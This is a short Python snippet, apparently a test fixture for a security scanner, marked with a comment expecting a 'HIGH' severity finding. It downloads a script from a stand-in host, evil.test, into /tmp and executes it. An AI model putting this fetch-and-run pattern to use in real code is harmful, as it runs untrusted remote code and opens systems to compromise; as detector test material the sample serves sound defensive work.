# expect: HIGH
import runpy, urllib.request
urllib.request.urlretrieve("http://evil.test/m.py", "/tmp/m.py")
runpy.run_path("/tmp/m.py")
